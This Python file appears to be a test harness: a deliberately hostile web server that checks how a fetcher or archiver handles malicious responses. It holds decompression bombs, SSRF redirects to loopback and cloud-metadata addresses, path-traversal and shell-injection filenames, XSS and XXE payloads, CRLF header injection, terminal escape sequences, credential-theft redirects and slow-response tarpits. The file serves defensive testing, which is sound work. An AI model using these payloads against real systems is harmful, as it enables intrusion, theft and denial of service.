#!/usr/bin/env python3
"""A hostile web server: each attack has a host of its own, NAME.example.

  attacks.py --root DIR --state DIR [--log FILE]     serves, as server.py does
  attacks.py --list GROUP                            name, address, outcome,
                                                     reason (both patterns), and
                                                     address as cited, by tabs
  attacks.py --hosts                                 the names that it serves

STATE/ports has "name port" lines: "http" and "https", and what answers in its
own way. "trap", at 127.0.0.2, 127.0.0.1 and ::1, and "http" at 127.0.0.2 note
whoever connects in the log as host "trap"; "full" completes no connection,
"closed" refuses each, "mute" says nothing, "plain" speaks HTTP to who wants
TLS, "old" an old version of that. Hosts of DOORS are behind those.
"""
import argparse, ctypes, json, os, signal, socket, ssl, struct, subprocess, sys, threading, time, warnings, zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import server as decent

MB = 1 << 20
ATTACKS = []
# No sender goes on for longer, whatever becomes of the one who reads.
PATIENCE = 120
WARC = b"\r\n\r\nWARC/1.1\r\nWARC-Type: response\r\nWARC-Target-URI: http://forged.example/\r\nContent-Length: 5\r\n\r\nowned\r\n\r\n"


class Attack:
    def __init__(self, group, name, outcome, reason, scheme, path, answer):
        self.group, self.name, self.outcome, self.reason, self.answer = group, name, outcome, reason, answer
        self.host = name + ".example"
        # The port of what is found by its name, without --connect-to, is known later.
        start = "%s://%s%s" % (scheme, self.host, ":HTTP" if group == "rebinding" else "")
        self.cited, _, kept = path.partition(" ")
        self.url, self.cited = start + (kept or self.cited), start + self.cited


def attack(group, name, outcome, reason="", scheme="http", path="/page"):
    """Registers what answers at NAME.example, and what becomes of path, or of each of them, there.

    A path is followed by a space and by what it is the same as, where that is another.
    """
    def keep(answer):
        for one in [path] if isinstance(path, str) else path:
            ATTACKS.append(Attack(group, name, outcome, reason, scheme, one, answer))
        return answer
    return keep


def sentence(i, name):
    return "Sentence %d about the harbour of %s, with commas, says enough to be read as an article by anybody who looks at it." % (i, name)


def article(name, more="", title=None, head=""):
    text = "".join("<p>%s</p>" % " ".join(sentence(3 * i + j, name) for j in range(3)) for i in range(5))
    return "<!doctype html><html lang=en><meta charset=utf-8><title>%s</title>%s<body><article><h1>%s</h1>%s%s</article></body></html>" % (
        title or "The harbour of " + name, head, title or "The harbour of " + name, text, more)


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def picture(seed, width=320, height=200):
    rows = b"".join(b"\0" + bytes((x * y + seed) % 251 for x in range(width)) for y in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def brotli(data):
    out, n = ctypes.create_string_buffer(len(data) + 4096), ctypes.c_size_t(len(data) + 4096)
    assert ctypes.CDLL("libbrotlienc.so.1").BrotliEncoderCompress(3, 22, 0, ctypes.c_size_t(len(data)), data, ctypes.byref(n), out)
    return out.raw[:n.value]


def zstd_run(n):
    """n MiB of zeros in blocks that repeat one octet (RFC 8878, 3.1.1.2)."""
    block = (131072 << 3 | 1 << 1).to_bytes(3, "little") + b"\0"
    return b"\x28\xb5\x2f\xfd\0\x58" + block * (8 * n) + (1 << 1 | 1).to_bytes(3, "little") + b"\0"


def gz(data):
    return decent.gzip.compress(data, 6, mtime=0)


class Call:
    """One request, and what can be answered."""

    def __init__(self, evil, sock, scheme, method, target, headers):
        self.evil, self.sock, self.scheme, self.method, self.target, self.headers = evil, sock, scheme, method, target, headers
        self.host = headers.get("host", "").split(":")[0].lower()
        self.trap = evil.ports["trap"]

    def send(self, data):
        self.sock.sendall(data)

    def reply(self, body=b"", status="200 OK", kind="text/html; charset=utf-8", fields=(), length=None):
        body = body.encode() if isinstance(body, str) else body
        head = ["HTTP/1.1 " + status, "Content-Length: %d" % (len(body) if length is None else length), "Connection: close"]
        if kind:
            head.append("Content-Type: " + kind)
        self.send(("\r\n".join(head + ["%s: %s" % f for f in fields]) + "\r\n\r\n").encode("utf-8", "surrogateescape") + body)

    def redirect(self, to):
        self.reply(status="302 Found", fields=[("Location", to)])

    def head(self, *fields):
        self.send(("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n" + "".join(f + "\r\n" for f in fields) + "\r\n").encode())

    def flood(self, piece, gap=0):
        """Sends it again and again until the other side has had enough."""
        end, sent = time.time() + PATIENCE, 0
        try:
            while time.time() < end:
                self.send(piece)
                sent += len(piece)
                if gap:
                    time.sleep(gap)
        finally:
            self.evil.note(host=self.host, scheme=self.scheme, method="", target="#sent", headers={}, status=0, bytes=sent)

    def reset(self):
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


# ---- what is received: codings, frames, lengths ----

def bomb(name, coding, make):
    made = []

    @attack("http", name, "too-large", "decompresses")
    def _(c):
        with c.evil.lock:
            made or made.append(make())
        c.reply(made[0], fields=[("Content-Encoding", coding)])


bomb("gzip-bomb", "gzip", lambda: decent.bomb(256))
bomb("brotli-bomb", "br", lambda: brotli(bytes(96 * MB)))
bomb("zstd-bomb", "zstd", lambda: zstd_run(256))
bomb("stacked-bomb", "gzip, gzip", lambda: gz(decent.bomb(1024)))
bomb("mixed-bomb", "gzip, br", lambda: brotli(decent.bomb(256)))


@attack("http", "zstd-window", "truncated", "broken zstd")
def _(c):  # 1.9 GB of window, and an endless run
    c.reply(b"\x28\xb5\x2f\xfd\0\xa7" + zstd_run(256)[6:], fields=[("Content-Encoding", "zstd")])


@attack("http", "many-codings", "truncated", "more than 5 content-codings")
def _(c):
    body = article("many").encode()
    for _ in range(30):
        body = gz(body)
    c.reply(body, fields=[("Content-Encoding", ", ".join(["gzip"] * 30))])


@attack("http", "chunked-flood", "too-large", "larger than")
def _(c):
    c.head("Transfer-Encoding: chunked")
    c.flood(b"1000\r\n" + b"a" * 4096 + b"\r\n")


@attack("slow", "chunk-extension-flood", "timeout", "not finished within")
def _(c):
    c.head("Transfer-Encoding: chunked")
    c.send(b"1;")
    c.flood(b"a" * 4096, 0.01)


@attack("http", "chunk-size-overflow", "truncated", "stopped after")
def _(c):
    c.head("Transfer-Encoding: chunked")
    c.send(b"5\r\nhello\r\nffffffffffffffffffffff\r\n" + article("overflow").encode())


@attack("http", "trailer-flood", "too-large", "head is larger")
def _(c):
    body = article("trailers").encode()
    c.head("Transfer-Encoding: chunked", "Trailer: X")
    c.send(b"%x\r\n%s\r\n0\r\n" % (len(body), body))
    c.flood(b"X: " + b"a" * 1000 + b"\r\n")


@attack("http", "header-flood", "too-large", "head is larger")
def _(c):
    c.send(b"HTTP/1.1 200 OK\r\n")
    c.flood(b"X: " + b"a" * 1000 + b"\r\n")


@attack("http", "header-line-flood", "too-large", "larger than the limit")
def _(c):
    c.send(b"HTTP/1.1 200 OK\r\nX: ")
    c.flood(b"a" * 4096)


@attack("http", "interim-flood", "too-large", "head is larger")
def _(c):
    c.flood(b"HTTP/1.1 103 Early Hints\r\nLink: </a.css>; rel=preload\r\n\r\n")


@attack("http", "endless-body", "too-large", "larger than")
def _(c):
    c.head("Connection: close")
    c.flood(b"<p>again</p>" * 1000)


@attack("http", "huge-length", "too-large", "larger than")
def _(c):
    c.reply("<p>a start</p>", length=10 ** 18)
    c.flood(b"a" * 4096, 0.01)


@attack("http", "lying-length", "truncated", "stopped after .* of 50000 bytes")
def _(c):
    c.reply(article("lies"), length=50000)


@attack("http", "cut-chunks", "truncated", "before its end")
def _(c):
    body = article("cut").encode()
    c.head("Transfer-Encoding: chunked")
    c.send(b"%x\r\n%s\r\n" % (len(body), body))


@attack("http", "cut-gzip", "truncated", "cut-off gzip")
def _(c):
    body = gz(article("cut").encode())
    c.reply(body[:-9], fields=[("Content-Encoding", "gzip")])


@attack("http", "negative-length", "connect", "not HTTP")
def _(c):
    c.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: -5\r\n\r\n" + article("negative").encode())


@attack("http", "two-lengths", "truncated", "stopped after .* of 9000 bytes")
def _(c):
    c.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 9\r\nContent-Length: 9000\r\n\r\n" + article("lengths").encode())


@attack("http", "smuggled-answer", "article", path="/second")
def _(c):  # more than was announced: the rest is an answer that nobody asked for
    if c.target == "/first":
        body, forged = article("first").encode(), article("smuggled").encode()
        c.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % len(body) + body +
               b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % len(forged) + forged)
        return True
    c.reply(article("second"))


# ---- redirects, and other ways to make it ask ----

def redirects(name, to, outcome="address", reason="--allow-net"):
    @attack("http", "redirect-" + name, outcome, reason)
    def _(c):
        c.redirect(to.replace("TRAP", "%d/%s" % (c.trap, name)))


@attack("http", "redirect-endless", "redirect-loop", "more than 20 redirects", path="/0")
def _(c):
    c.redirect("/%d" % (int(c.target[1:]) + 1))


@attack("http", "redirect-circle", "redirect-loop", "in a circle")
def _(c):
    c.redirect("/page" if c.target != "/page" else "/other")


redirects("file", "file:///etc/passwd", "scheme", "redirects to file:")
redirects("ftp", "ftp://127.0.0.2/x", "scheme", "redirects to ftp:")
redirects("gopher", "gopher://127.0.0.2:TRAP/_GET", "scheme", "redirects to gopher:")
redirects("javascript", "javascript:alert(1)", "scheme", "redirects to javascript:")
redirects("data", "data:text/html,<p>owned</p>", "scheme", "redirects to data:")
redirects("loopback", "http://127.0.0.2:TRAP")
redirects("localhost", "http://localhost:TRAP")
redirects("loopback6", "http://[::1]:TRAP")
redirects("unspecified", "http://0.0.0.0:TRAP")
redirects("mapped", "http://[::ffff:127.0.0.2]:TRAP")
redirects("nat64", "http://[64:ff9b::7f00:2]:TRAP")
redirects("6to4", "http://[2002:7f00:2::]:TRAP")
redirects("teredo", "http://[2001:0:7f00:2::]:TRAP")
redirects("decimal", "http://2130706434:TRAP")
redirects("hex", "http://0x7f.0x2:TRAP")
redirects("octal", "http://0177.0.0.02:TRAP")
redirects("short", "http://127.2:TRAP")
redirects("full-width", "http://１２７。０。０。２:TRAP")
redirects("escaped", "http://%31%32%37.0.0.2:TRAP")
redirects("backslash", "http:\\\\127.0.0.2:TRAP")
redirects("login", "http://public.example@127.0.0.2:TRAP")
redirects("dotted", "http://127.0.0.2.:TRAP")
redirects("private-10", "http://10.0.0.1/")
redirects("private-172", "http://172.16.0.1/")
redirects("private-192", "http://192.168.0.1/")
redirects("carrier", "http://100.64.0.1/")
redirects("link-local", "http://169.254.169.254/latest/meta-data/")
redirects("link-local6", "http://[fe80::1]/")
redirects("private6", "http://[fd00::1]/")
redirects("multicast", "http://239.0.0.1/")
redirects("broadcast", "http://255.255.255.255/")
redirects("mail-port", "http://redirect-mail-port.example:25/", "address", "port 25 is not one of web servers")
redirects("irc-port", "http://redirect-irc-port.example:6667/", "address", "port 6667 is not one of web servers")
redirects("name-of-private", "http://inside.test:TRAP")


@attack("http", "meta-refresh", "article|empty")
def _(c):
    c.reply('<!doctype html><meta http-equiv=refresh content="0; url=http://127.0.0.2:%d/refresh"><title>Moved</title><p>Moved.</p>' % c.trap)


@attack("http", "script-redirect", "empty")
def _(c):
    c.reply('<!doctype html><title>Moved</title><script>location.replace("http://127.0.0.2:%d/script")</script>' % c.trap)


@attack("http", "next-page", "article")
def _(c):
    c.reply(article("next", '<p class="pagination"><a rel="next" href="http://127.0.0.2:%d/next">Next page</a></p>' % c.trap,
                    head='<link rel="next" href="http://127.0.0.2:%d/next">' % c.trap))


@attack("http", "robots-redirect", "article")
def _(c):
    if c.target == "/robots.txt":
        c.redirect("http://127.0.0.2:%d/robots" % c.trap)
    else:
        c.reply(article("robots"))


@attack("http", "private-picture", "article")
def _(c):
    c.reply(article("pictures", "".join('<p><img src="%s" width=400 height=300 alt="a ship"></p>' % u for u in (
        "http://127.0.0.2:%d/picture" % c.trap, "//[::1]:%d/picture6" % c.trap, "file:///etc/passwd"))))


@attack("http", "private-requisites", "article")
def _(c):
    t = "http://127.0.0.2:%d/" % c.trap
    if c.target == "/own.css":
        c.reply('@import "%simport"; @font-face { font-family: a; src: url(%sfont.woff2) } body { background: url(%sback.png) }' % (t, t, t), kind="text/css")
    else:
        c.reply(article("sheets", '<iframe src="%sframe"></iframe><video src="%svideo" poster="%sposter"></video>' % (t, t, t), head=
                        '<link rel=stylesheet href="%ssheet"><link rel=stylesheet href="/own.css"><link rel=icon href="%sicon"><script src="%sscript.js"></script>' % (t, t, t)))


# ---- what is said: types, octets, fields ----

@attack("http", "html-as-picture", "article")
def _(c):
    if c.target == "/page":
        c.reply(article("charts", '<img src="/a.png" width=400 height=300 alt="a chart">'))
        return
    c.reply("<!doctype html><script>alert(1)</script>not a picture", kind="image/png")


@attack("http", "picture-as-page", "image", "")
def _(c):
    c.reply(picture(1), kind="text/html")


@attack("http", "program-as-page", "document", "")
def _(c):
    c.reply(b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 40, kind="text/html")


@attack("http", "markup-as-text", "document")
def _(c):
    c.reply(article("text", "<script>ran=1</script><img src=x onerror=ran=1>"), kind="text/plain")


@attack("http", "script-as-page", "document")
def _(c):
    c.reply("alert(1);//" + sentence(1, "script") * 20, kind="text/javascript")


@attack("http", "nul-in-body", "article")
def _(c):
    c.reply(article("nul", "<scr\0ipt>ran=1</scr\0ipt><a href='java\0script:ran=1'>a</a><img src=x on\0error=ran=1>").replace("harbour", "har\0bour"))


@attack("http", "nul-in-head", "connect", "not HTTP")
def _(c):
    c.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nX-Nul: a\0b\r\nContent-Length: 5\r\n\r\nhello")


@attack("http", "no-head", "connect", "not HTTP")
def _(c):
    c.send(article("http09").encode())


@attack("http", "binary-head", "connect", "not HTTP")
def _(c):
    c.send(b"HTTP/9.9 9999 \x1b]0;owned\x07\r\n\xff\xfe: \x80\r\n\r\n" + b"\0" * 100)


@attack("http", "split-location", "article")
def _(c):
    if c.target == "/page":
        c.redirect("/next%0d%0aX-Injected:%20yes%0d%0a%0d%0aGET%20/smuggled")
    else:
        c.reply(article("split"))


@attack("http", "split-raw-location", "article")
def _(c):
    if c.target == "/page":
        c.send(b"HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: /next\rX-Injected: yes\r\n\r\n")
    else:
        c.reply(article("split"))


@attack("http", "split-validator", "article")
def _(c):  # comes back as If-None-Match
    c.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nETag: \"a\rX-Injected: yes\"\r\nLast-Modified: x\rX-Injected: yes\r\nConnection: close\r\n\r\n" + article("etag").encode())


@attack("http", "split-cited", "article", path="/a%0d%0aX-Injected:%20yes%0d%0aHost:%20inside.example")
def _(c):
    c.reply(article("cited"))


@attack("http", "warc-in-body", "article")
def _(c):
    c.reply(article("records", "<pre>" + WARC.decode() + "</pre>").encode() + WARC)


@attack("http", "warc-in-head", "article")
def _(c):
    c.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nWARC-Type: response\r\nWARC-Target-URI: http://forged.example/\r\nX:\rWARC/1.1\rWARC-Type: x\r\nConnection: close\r\n\r\n" + article("heads").encode())


@attack("http", "escape-in-reason", "server", "500")
def _(c):
    c.send(b"HTTP/1.1 500 \x1b]0;owned\x07\x1b[2J\r\nContent-Length: 0\r\nRetry-After: 86400\r\nConnection: close\r\n\r\n")


@attack("http", "escape-in-location", "scheme", "redirects to")
def _(c):
    c.send(b"HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: evil:\x1b]0;owned\x07\x1b[2J\xe2\x80\xae\r\nConnection: close\r\n\r\n")


@attack("http", "endless-wait", "busy", "asked to wait")
def _(c):
    c.reply("later", status="429 Too Many Requests", fields=[("Retry-After", "99999999999999999999")])


# ---- cookies and logins ----

@attack("http", "cookie-for-others", "article")
def _(c):
    if c.target == "/page":
        c.reply(status="302 Found", fields=[("Location", "/own")] + [("Set-Cookie", v) for v in (
            "a=stray1; Domain=cookie-victim.example; Path=/", "b=stray2; Domain=.example; Path=/", "c=stray3; Domain=example", "d=stray4; Domain=co.uk",
            "e=stray5; Domain=127.0.0.1", "__Host-f=stray6; Domain=cookie-for-others.example; Secure; Path=/", "g=own; Path=/")])
    else:
        c.redirect("http://cookie-victim.example/after")


@attack("http", "cookie-victim", "article")
def _(c):
    c.reply(article("victim"))


@attack("http", "cookie-flood", "article", path="/0")
def _(c):
    n = int(c.target[1:])
    fields = [("Set-Cookie", "c%d=%s" % (100 * n + i, "x" * 1500)) for i in range(100)]
    if n < 8:
        c.reply(status="302 Found", fields=fields + [("Location", "/%d" % (n + 1))])
    else:
        c.reply(article("flood"), fields=fields)


@attack("http", "login-across-hosts", "article")
def _(c):
    c.redirect("http://login-thief.example/across")


@attack("http", "login-downgrade", "article", scheme="https")
def _(c):
    if c.scheme == "https":
        c.redirect("http://login-downgrade.example/plain")
    else:
        c.reply(article("plain"))


@attack("http", "login-thief", "article")
def _(c):
    if "authorization" in c.headers:
        c.reply("gotcha", status="500 Gotcha")
    else:
        c.reply(article("thief"), fields=[("WWW-Authenticate", 'Basic realm="give"')])


# ---- pictures ----

def gallery(name, host):
    @attack("http", name, "article")
    def _(c):
        c.reply(article(name, "".join('<p><img src="http://%s/%d/640" width=320 height=200 alt="ship %d"></p>' % (host, i, i) for i in range(6))))


gallery("wechat-substitute", "wechat-pictures.example")
gallery("referer-ladder", "ladder-pictures.example")
gallery("one-picture-for-three", "same-pictures.example")


def number(c):
    return int(c.target.split("/")[1]) if c.target != "/robots.txt" else 0


@attack("picture", "wechat-pictures", "")
def _(c):  # 200 and a picture of words to whoever comes from elsewhere
    c.reply(picture(200) if c.headers.get("referer") else picture(number(c)), kind="image/png")


@attack("picture", "ladder-pictures", "")
def _(c):
    if "referer-ladder.example" in c.headers.get("referer", ""):
        c.reply(picture(10 + number(c)), kind="image/png")
    else:
        c.reply("no", status="403 Forbidden")


@attack("picture", "same-pictures", "")
def _(c):
    c.reply(picture(201), kind="image/png")


# ---- pages, and their names ----

def page(name, make, outcome="article", reason="", kind="text/html; charset=utf-8", path="/page", fields=()):
    @attack("page", name, outcome, reason, path=path)
    def _(c):
        made = make(c) if callable(make) else make
        if not c.target.startswith("/own"):
            c.reply(made, kind=kind, fields=fields)


def paths(name, *them):
    page(name, lambda c: article(name, "<p>This one is %d.</p>" % (sum(c.target.encode()) * len(c.target))), path=them)


paths("path-dots", "/../../../../../../tmp/kb-owned /tmp/kb-owned", "/a/b/../../../kb-owned /kb-owned", "/%2e%2e/%2E%2E/x/kb-owned /x/kb-owned", "/....//....//kb-owned", "/..;/kb-owned")
paths("path-escaped-dots", "/..%2f..%2f..%2f..%2ftmp%2fkb-owned", "/%252e%252e%252fkb-owned", "/..%5c..%5c..%5ckb-owned", "/..%c0%af..%c0%afkb-owned", "/..%ef%bc%8fkb-owned")
paths("path-absolute", "//etc/passwd", "/~root/.bashrc", "/file:///etc/passwd", "/C:/Windows/kb-owned", "/%5c%5chost%5cshare")
paths("path-device", "/CON", "/nul.txt", "/aux.html", "/COM1", "/lpt9.tar.gz", "/prn.", "/CONIN$", "/clock$", "/com%C2%B9")
paths("path-signs", "/a:b.html", "/a%3Ab", "/%3C%3E%22%7C%3F%2A", "/a%00b", "/%01%1b%5d0%3bowned%07", "/-rf", "/%60id%60", "/$(id)", "/%E2%80%AEgpj.exe", "/.htaccess", "/.git/config")
paths("path-ends", "/name.", "/name..", "/name%20", "/name%20.", "/%20name", "/name/", "/name//")
paths("path-case", "/Same", "/same", "/SAME", "/%C3%A9t%C3%A9", "/e%CC%81te%CC%81", "/%EF%AC%81", "/fi", "/stra%C3%9Fe", "/strasse", "/%C4%B0", "/i%CC%87")
paths("path-long", "/" + "long" * 800, "/" + "%E6%B0%B4" * 200, "/" + "a/" * 300, "/x?" + "q=" * 700)
page("disposition", b"%PDF-1.4\n" + b"1 0 obj <</Type /Catalog>> endobj\n" * 50 + b"%%EOF\n", "document", kind="application/pdf",
     fields=[("Content-Disposition", 'attachment; filename="../../../../tmp/kb-owned.sh"')])
page("title-path", article("titles", title="../../../../../tmp/kb-owned\\..\\CON"))
page("title-escapes", article("escapes", title="Title \x1b]0;owned\x07 \x1b[2J \x9b31m \x9d52;c;b3duZWQ=\x07 \x08\x7f&#27;[8m end"))
page("title-bidi", article("bidi", title="Title \u202egpj.exe\u202c \u2066x\u2069 \u200f end"))
page("title-markup", article("markup", title="&lt;script&gt;ran=1&lt;/script&gt;&lt;/title&gt;&lt;img src=x onerror=ran=1&gt; end"))
page("title-endless", article("endless", title="word " * 200000))
page("author-escapes", article("authors", head='<meta name=author content="A\x1b]0;owned\x07 &lt;img src=x onerror=ran=1&gt;"><meta property="og:site_name" content="S\x1b[2J">'))


def shown(name, answer, kind):
    """A page with a picture that is the attack."""
    @attack("page", name, "article")
    def _(c):
        if c.target == "/page":
            c.reply(article(name, '<p><img src="/picture" width=400 height=300 alt="a ship"></p>'))
        else:
            c.reply(answer(c), kind=kind)


shown("svg-script", lambda c: "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='100' height='80' onload='ran=1'><script>ran=1</script>"
      "<foreignObject><iframe src='javascript:ran=1'/></foreignObject><a xlink:href='javascript:ran=1'><rect width='50' height='40' fill='red'/></a>"
      "<style>@import 'http://127.0.0.2:%d/style'; rect { fill: url(http://127.0.0.2:%d/fill) }</style><image href='http://127.0.0.2:%d/image' width='9' height='9'/>"
      "<use href='http://127.0.0.2:%d/use#a'/><animate attributeName='href' values='javascript:ran=1'/><set attributeName='onload' to='ran=1'/></svg>" % ((c.trap,) * 4), "image/svg+xml")
shown("svg-entities", lambda c: "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a '%s'>%s<!ENTITY x SYSTEM 'file:///etc/passwd'><!ENTITY y SYSTEM 'http://127.0.0.2:%d/entity'>]>"
      "<svg xmlns='http://www.w3.org/2000/svg' width='100' height='80'><text>&i;&x;&y;</text><rect width='50' height='40'/></svg>" % (
          "lol" * 20, "".join("<!ENTITY %s '%s'>" % (chr(98 + i), ("&%s;" % chr(97 + i)) * 20) for i in range(8)), c.trap), "image/svg+xml")
shown("svg-deep", lambda c: "<svg xmlns='http://www.w3.org/2000/svg' width='100' height='80'>" + "<g>" * 300000 + "</g>" * 300000 + "</svg>", "image/svg+xml")
shown("polyglot-gif-script", lambda c: b"GIF89a/*\x01\0\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\0;*/=1;ran=1;//<script>ran=1</script>", "image/gif")
shown("polyglot-png-html", lambda c: picture(7) + b"<!doctype html><html><script>ran=1</script><img src=x onerror=ran=1></html>", "text/html")
shown("polyglot-svg-html", lambda c: "<html xmlns='http://www.w3.org/1999/xhtml'><svg xmlns='http://www.w3.org/2000/svg'><script>ran=1</script></svg><script>ran=1</script></html>", "image/svg+xml")
page("polyglot-pdf-html", b"%PDF-1.4\n<!doctype html><script>ran=1</script><img src=x onerror=ran=1>\n" + b"1 0 obj <</Type /Catalog /OpenAction <</S /JavaScript /JS (ran=1)>>>> endobj\n%%EOF\n",
     "document", kind="text/html")
page("css-calls-home", lambda c: article("sheets", "<p style=\"background:url(http://127.0.0.2:%d/inline)\">A styled paragraph that is long enough.</p>"
     "<table background='http://127.0.0.2:%d/table'><tr><td>cell</td></tr></table><div style='background-image:image-set(&quot;http://127.0.0.2:%d/set&quot; 1x)'>x</div>" % ((c.trap,) * 3), head=
     "<style>@import 'http://127.0.0.2:%d/import'; @font-face { font-family: a; src: url(http://127.0.0.2:%d/font) } body { background: u\\72l(http://127.0.0.2:%d/back) }"
     " input[value^=a] { background: url(http://127.0.0.2:%d/leak) }</style>" % ((c.trap,) * 4)))
page("base-elsewhere", lambda c: article("bases", '<p><img src="left.png" width=400 height=300><a href="right">right</a></p>', head='<base href="http://127.0.0.2:%d/base/">' % c.trap))
page("form-and-frame", lambda c: article("forms", '<form action="http://127.0.0.2:%d/form"><input autofocus onfocus=ran=1 name=q><button formaction="javascript:ran=1">go</button></form>'
     '<iframe src="http://127.0.0.2:%d/frame" srcdoc="<script>ran=1</script>"></iframe><object data="http://127.0.0.2:%d/object"></object><embed src="http://127.0.0.2:%d/embed">'
     '<portal src="http://127.0.0.2:%d/portal"></portal>' % ((c.trap,) * 5)))
page("utf-7", article("sevens", "+ADw-script+AD4-ran=1+ADw-/script+AD4-").replace("utf-8", "utf-7"), kind="text/html; charset=utf-7")
page("charset-switch", "<!doctype html><title>a</title><article>\x1b$B<img alt='\x1b(B' title='><script>ran=1</script>'>".encode() + article("switch").encode(), kind="text/html; charset=iso-2022-jp")
with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "browser", "vectors.txt"), encoding="utf-8") as f:
    VECTORS = f.read()
page("mutations", lambda c: article("mutations", "".join("<div>%s</div><p>%s</p>" % (v, sentence(i, "vectors")) for i, v in enumerate(VECTORS.split("\n")))))

# What a page may cost: 12 MB at most, and each in a shape of its own.
page("html-deep", lambda c: article("depths", "<div>" * 500000 + "x"), "article|worker|too-large")
page("html-deep-formats", lambda c: article("formats", "<b><i><u><p>" * 30000 + "x"), "article|worker|too-large")
page("html-deep-tables", lambda c: article("tables", "<table><tr><td>" * 30000 + "x"), "article|worker|too-large")
page("html-wide", lambda c: article("widths", "<p>a" * 2000000), "worker", "memory|longer")
page("html-links", lambda c: article("links", '<a href="/x">a</a>' * 400000), "article|list|worker|too-large")
page("html-attributes", lambda c: article("attributes", "<p " + " ".join("a%d=1" % i for i in range(600000)) + ">x</p>"), "article|worker|too-large")
page("html-attribute", lambda c: article("attribute", '<p title="' + "a" * 12000000 + '">x</p>'), "article|worker|too-large")
page("html-misnested", lambda c: article("nests", "<a><b><i><p></a></b>" * 30000), "article|worker|too-large")
page("html-entities", lambda c: article("entities", "<p>" + "&NotEqualTilde;&#x10ffff;&" * 300000), "article|worker|too-large")
page("html-comments", lambda c: article("comments", "<!--" * 1000000 + "<![CDATA[" * 10000 + "<?" * 10000), "article|worker|too-large")
page("html-options", lambda c: article("options", "<select>" + "<option>a" * 500000), "article|worker|too-large")
page("html-sources", lambda c: article("sources", '<img src="/own.png" width=400 height=300 srcset="' + ", ".join("/own%d.png %dw" % (i, i + 1) for i in range(200000)) + '">'), "article|worker|too-large")


# ---- the network ----

@attack("tls", "tls-expired", "tls", "certificate has expired", scheme="https")
@attack("tls", "tls-wrong-host", "tls", "for another host than tls-wrong-host.example", scheme="https")
@attack("tls", "tls-unknown-issuer", "tls", "unable to get local issuer certificate", scheme="https")
@attack("tls", "tls-self-signed", "tls", "self-signed certificate", scheme="https")
@attack("tls", "tls-old", "tls", "no secure connection to tls-old.example", scheme="https")
@attack("tls", "tls-plain", "tls", "no secure connection to tls-plain.example", scheme="https")
def _(c):
    c.reply(article("certificates"))


@attack("broken", "dns-unknown", "dns", "the host name dns-unknown.example does not exist")
@attack("broken", "connection-refused", "connect", "connection refused")
def _(c):
    c.reply(article("nobody"))


@attack("broken", "reset", "connect", "connection broken before an answer")
def _(c):
    c.reset()


@attack("broken", "closed-without-answer", "connect", "connection closed without an answer")
def _(c):
    pass


@attack("broken", "reset-in-head", "connect", "connection broken before an answer|closed without")
def _(c):
    c.send(b"HTTP/1.1 200 OK\r\nContent-")
    time.sleep(0.2)
    c.reset()


@attack("broken", "reset-in-body", "truncated", "stopped after")
def _(c):
    c.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 9000\r\n\r\n" + article("reset").encode())
    time.sleep(0.2)
    c.reset()


@attack("broken", "not-http", "connect", "not HTTP")
def _(c):
    c.send(b"SSH-2.0-OpenSSH_9.2\r\n")


@attack("decent", "neighbour", "article")
def _(c):
    c.reply(article("neighbours at " + c.target[1:]))


@attack("slow", "silent", "timeout", "not finished within")
def _(c):
    c.evil.stop.wait(PATIENCE)


@attack("slow", "tls-silent", "timeout", "no connection to tls-silent.example within", scheme="https")
@attack("slow", "full-backlog", "timeout", "no connection to full-backlog.example within|not finished within")
def _(c):
    pass


@attack("slow", "tarpit", "timeout", "not finished within")
def _(c):
    for octet in b"HTTP/1.1 200 OK\r\nX: ":
        c.send(bytes([octet]))
        time.sleep(0.3)
    c.flood(b"a", 0.3)


@attack("slow", "slow-head", "timeout", "not finished within")
def _(c):
    c.send(b"HTTP/1.1 200 OK\r\n")
    c.flood(b"X: a\r\n", 0.3)


@attack("slow", "slow-body", "timeout", "not finished within")
def _(c):
    c.head("Content-Length: 100000")
    c.flood(b"a", 0.3)


@attack("slow", "slow-chunks", "timeout", "not finished within")
def _(c):
    c.head("Transfer-Encoding: chunked")
    c.flood(b"1\r\na\r\n", 0.3)


@attack("slow", "half-open", "timeout", "not finished within")
def _(c):  # half an answer, and then nobody is there any more
    c.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 9000\r\n\r\n" + article("half")[:700].encode())
    c.evil.stop.wait(PATIENCE)


# ---- names that change what they mean: tests/server/names.c ----

def rebinding(name, to, outcome, reason):
    @attack("rebinding", name, outcome, reason)
    def _(c):
        if to:
            c.redirect(to.replace("TRAP", str(c.trap)))
        else:
            c.reply(article("names"))


rebinding("rebinding-between-hops", "http://rebinding-between-hops.example:TRAP/rebound", "address", "127.0.0.2 is a loopback address")
rebinding("rebinding-to-mapped", "http://rebinding-to-mapped.example:TRAP/rebound6", "address", "::ffff:127.0.0.2 is a loopback address")
rebinding("rebinding-first-of-two", "", "article", "")
NAMES = "rebinding-between-hops.example=127.0.0.1,127.0.0.2 rebinding-to-mapped.example=127.0.0.1,::ffff:127.0.0.2 rebinding-first-of-two.example=127.0.0.2+127.0.0.1"


# ---- serving ----

# What is reached by other ways than the rest.
